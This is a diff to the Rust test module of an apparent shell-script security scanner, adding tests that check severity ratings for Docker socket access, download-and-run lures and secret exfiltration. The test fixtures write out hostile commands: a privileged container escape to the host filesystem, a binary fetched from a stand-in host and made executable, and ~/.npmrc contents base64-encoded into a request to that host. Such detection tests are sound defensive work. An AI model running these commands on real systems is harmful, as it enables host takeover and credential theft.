@@ -1097,6 +1097,27 @@ mod tests {
                 "{rule}: {hostile}: {found:?}"
             );
         }
+        // Docker's socket reached is a privileged operation (high); a container given the host is an escape.
+        let socket = run(
+            FileKind::Script,
+            "x.sh",
+            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json\n",
+        );
+        assert_eq!(
+            level("priv/host-socket", &socket),
+            Some(Severity::High),
+            "{socket:?}"
+        );
+        let escape = run(
+            FileKind::Script,
+            "x.sh",
+            "docker run --privileged -v /:/host alpine chroot /host sh\n",
+        );
+        assert_eq!(
+            level("priv/host-socket", &escape),
+            Some(Severity::Critical),
+            "{escape:?}"
+        );
         // A launch agent installed in plain sight is high; a job that fetches what it runs is critical.
         let daemon = run(
             FileKind::Script,
@@ -1137,16 +1158,31 @@ mod tests {
         let honest = "cat ~/.npmrc 2>/dev/null | grep -v authToken | head\ncurl --proto '=https' -fL -o ocb \\\n  https://github.com/o/r/releases/download/v1/ocb_linux\nchmod +x ocb\n";
         let found = run(FileKind::Script, "x.sh", honest);
         assert!(level("flow/secret-to-network", &found).is_none(), "{found:?}");
-        assert_eq!(level("campaign/download-and-run", &found), Some(Severity::High), "{found:?}");
+        assert_eq!(
+            level("campaign/download-and-run", &found),
+            Some(Severity::High),
+            "{found:?}"
+        );
         let raw = "curl -o /usr/local/bin/pc https://raw.githubusercontent.com/containers/podman-compose/main/pc.py\nchmod +x /usr/local/bin/pc\n";
-        assert_eq!(level("campaign/download-and-run", &run(FileKind::Script, "x.sh", raw)), Some(Severity::High));
+        assert_eq!(
+            level("campaign/download-and-run", &run(FileKind::Script, "x.sh", raw)),
+            Some(Severity::High)
+        );
         // The same download from any other host is a lure; a request carrying what was read sends it.
         let lure = "curl -fL -o ocb \\\n  https://h.example/ocb\nchmod +x ocb\n";
         let found = run(FileKind::Script, "x.sh", lure);
-        assert_eq!(level("campaign/download-and-run", &found), Some(Severity::Critical), "{found:?}");
+        assert_eq!(
+            level("campaign/download-and-run", &found),
+            Some(Severity::Critical),
+            "{found:?}"
+        );
         let sent = "cat ~/.npmrc | grep -v authToken > /tmp/n\ncurl -fL -o /dev/null \"https://h.example/$(base64 < /tmp/n)\"\n";
         let found = run(FileKind::Script, "x.sh", sent);
-        assert_eq!(level("flow/secret-to-network", &found), Some(Severity::Critical), "{found:?}");
+        assert_eq!(
+            level("flow/secret-to-network", &found),
+            Some(Severity::Critical),
+            "{found:?}"
+        );
         // Output thrown away is not a download to run.
         let probe = "if command -v curl &>/dev/null; then B=curl; fi\nif command -v wget &>/dev/null; then B=wget; fi\n";
         assert!(level("campaign/download-and-run", &run(FileKind::Script, "x.sh", probe)).is_none());
